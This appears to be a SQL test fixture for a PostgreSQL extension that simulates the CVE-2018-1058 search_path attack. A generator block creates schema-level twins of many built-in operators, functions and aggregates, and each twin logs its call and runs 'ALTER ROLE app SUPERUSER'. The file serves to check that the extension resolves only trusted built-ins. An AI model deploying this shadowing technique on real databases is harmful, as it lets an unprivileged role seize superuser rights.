-- A hostile neighbour (CVE-2018-1058): role `app` owns schema `app` and defines in it an
-- exact-type twin of every built-in operator and function the extension's statements could
-- resolve through a search_path that lists `app` before `pg_catalog`. Each twin records the
-- call and tries to make `app` a superuser, as an attacker's would; whoever runs one (the
-- worker is the bootstrap superuser) runs `app`'s code.
--
-- Run as role `app` with search_path = pg_catalog: the probes below resolve built-ins only,
-- and every pair of argument types that resolves to a built-in today (exactly or through an
-- implicit cast, like bigint * interval → float8 * interval) gets a twin with that exact
-- signature and the built-in's result type.

CREATE TABLE app.calls (
    what    text NOT NULL,
    by_role name NOT NULL DEFAULT current_user
);
GRANT USAGE ON SCHEMA app TO PUBLIC;
GRANT INSERT ON app.calls TO PUBLIC;

CREATE FUNCTION app.record_call(what_was_called text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    INSERT INTO app.calls (what) VALUES (what_was_called);
    BEGIN
        EXECUTE 'ALTER ROLE app SUPERUSER';
    EXCEPTION WHEN OTHERS THEN
        NULL;
    END;
END
$$;

DO $generate$
DECLARE
    types text[] := ARRAY[
        'integer', 'bigint', 'numeric', 'double precision', 'text', 'boolean', 'uuid',
        'timestamp with time zone', 'interval', 'jsonb', 'name', 'oid',
        'integer[]', 'bigint[]', 'text[]', 'boolean[]', 'double precision[]', 'interval[]',
        'timestamp with time zone[]'];
    operators text[] := ARRAY[
        '=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||', '@>', '<@', '&&',
        '~~', '!~~', '~', '->', '->>', '#>', '?'];
    nullary text[] := ARRAY[
        'now', 'clock_timestamp', 'statement_timestamp', 'transaction_timestamp',
        'gen_random_uuid', 'random', 'pg_backend_pid', 'txid_current', 'pg_current_xact_id'];
    functions text[] := ARRAY[
        'unnest', 'extract', 'date_part', 'date_trunc', 'to_timestamp', 'to_char', 'format',
        'cardinality', 'array_length', 'array_position', 'array_append', 'array_cat',
        'array_remove', 'array_to_string', 'string_to_array', 'lower', 'upper', 'length',
        'char_length', 'octet_length', 'left', 'right', 'strpos', 'btrim', 'concat',
        'quote_ident', 'quote_literal', 'quote_nullable', 'md5', 'jsonb_build_object',
        'json_build_object', 'to_jsonb', 'to_json', 'jsonb_typeof', 'jsonb_object_keys',
        'jsonb_array_elements', 'jsonb_strip_nulls', 'round', 'floor', 'ceil', 'trunc', 'abs',
        'mod', 'age', 'justify_interval', 'isfinite', 'current_setting', 'pg_typeof',
        'num_nulls', 'num_nonnulls', 'starts_with', 'substr', 'generate_series', 'nextval',
        'currval', 'timezone', 'pg_notify', 'make_interval',
        'count', 'min', 'max', 'sum', 'avg', 'array_agg', 'string_agg', 'bool_and', 'bool_or',
        'jsonb_agg'];
    name text;
    l text;
    r text;
    op text;
    result text;
    args text[];
    signature text;
    is_aggregate boolean;
    is_set boolean;
    twins integer := 0;
BEGIN
    -- Binary operators.
    FOREACH op IN ARRAY operators LOOP
        FOREACH l IN ARRAY types LOOP
            FOREACH r IN ARRAY types LOOP
                BEGIN
                    EXECUTE format('SELECT pg_catalog.format_type(pg_catalog.pg_typeof(NULL::%s %s NULL::%s), NULL)', l, op, r)
                        INTO result;
                EXCEPTION WHEN OTHERS THEN
                    CONTINUE;
                END;
                twins := twins + 1;
                EXECUTE format($f$CREATE FUNCTION app.twin_%s(%s, %s) RETURNS %s LANGUAGE plpgsql
                                  AS $body$ BEGIN PERFORM app.record_call(%L); RETURN NULL; END $body$$f$,
                               twins, l, r, result, format('%s %s %s', l, op, r));
                EXECUTE format('CREATE OPERATOR app.%s (FUNCTION = app.twin_%s, LEFTARG = %s, RIGHTARG = %s)',
                               op, twins, l, r);
            END LOOP;
        END LOOP;
    END LOOP;

    -- Functions without arguments.
    FOREACH name IN ARRAY nullary LOOP
        EXECUTE format('SELECT pg_catalog.format_type(pg_catalog.pg_typeof(pg_catalog.%I()), NULL)', name)
            INTO result;
        twins := twins + 1;
        EXECUTE format($f$CREATE FUNCTION app.%I() RETURNS %s LANGUAGE plpgsql
                          AS $body$ BEGIN PERFORM app.record_call(%L); RETURN NULL; END $body$$f$,
                       name, result, name || '()');
    END LOOP;

    -- count(*).
    CREATE FUNCTION app.twin_count_star(bigint) RETURNS bigint LANGUAGE plpgsql
        AS $body$ BEGIN PERFORM app.record_call('count(*)'); RETURN NULL; END $body$;
    CREATE AGGREGATE app.count(*) (SFUNC = app.twin_count_star, STYPE = bigint);

    -- Functions and aggregates of one and two arguments, and format(text, text, integer).
    FOREACH name IN ARRAY functions LOOP
        SELECT pg_catalog.bool_and(p.prokind = 'a'), pg_catalog.bool_or(p.proretset)
          INTO is_aggregate, is_set
          FROM pg_catalog.pg_proc p
         WHERE p.proname = name AND p.pronamespace = 'pg_catalog'::regnamespace;
        FOREACH l IN ARRAY types || ARRAY[NULL] LOOP
            FOREACH r IN ARRAY types || ARRAY[NULL] LOOP
                CONTINUE WHEN l IS NULL AND r IS NOT NULL;
                args := array_remove(ARRAY[l, r], NULL);
                CONTINUE WHEN cardinality(args) = 0;
                signature := (SELECT pg_catalog.string_agg(format('NULL::%s', a), ', ') FROM pg_catalog.unnest(args) a);
                BEGIN
                    EXECUTE format('SELECT pg_catalog.format_type(pg_catalog.pg_typeof((SELECT pg_catalog.%I(%s))), NULL)', name, signature)
                        INTO result;
                EXCEPTION WHEN OTHERS THEN
                    CONTINUE;
                END;
                CONTINUE WHEN result IN ('record', 'void', 'unknown');
                twins := twins + 1;
                IF is_aggregate THEN
                    EXECUTE format($f$CREATE FUNCTION app.twin_%s(%s, %s) RETURNS %s LANGUAGE plpgsql
                                      AS $body$ BEGIN PERFORM app.record_call(%L); RETURN NULL; END $body$$f$,
                                   twins, result, array_to_string(args, ', '), result,
                                   format('%s(%s)', name, array_to_string(args, ', ')));
                    EXECUTE format('CREATE AGGREGATE app.%I(%s) (SFUNC = app.twin_%s, STYPE = %s)',
                                   name, array_to_string(args, ', '), twins, result);
                ELSIF is_set THEN
                    EXECUTE format($f$CREATE FUNCTION app.%I(%s) RETURNS SETOF %s LANGUAGE plpgsql
                                      AS $body$ BEGIN PERFORM app.record_call(%L); RETURN; END $body$$f$,
                                   name, array_to_string(args, ', '), result,
                                   format('%s(%s)', name, array_to_string(args, ', ')));
                ELSE
                    EXECUTE format($f$CREATE FUNCTION app.%I(%s) RETURNS %s LANGUAGE plpgsql
                                      AS $body$ BEGIN PERFORM app.record_call(%L); RETURN NULL; END $body$$f$,
                                   name, array_to_string(args, ', '), result,
                                   format('%s(%s)', name, array_to_string(args, ', ')));
                END IF;
            END LOOP;
        END LOOP;
    END LOOP;
    CREATE FUNCTION app.format(text, text, integer) RETURNS text LANGUAGE plpgsql
        AS $body$ BEGIN PERFORM app.record_call('format(text, text, integer)'); RETURN NULL; END $body$;

    RAISE NOTICE 'hostile twins: %', twins;
END
$generate$;
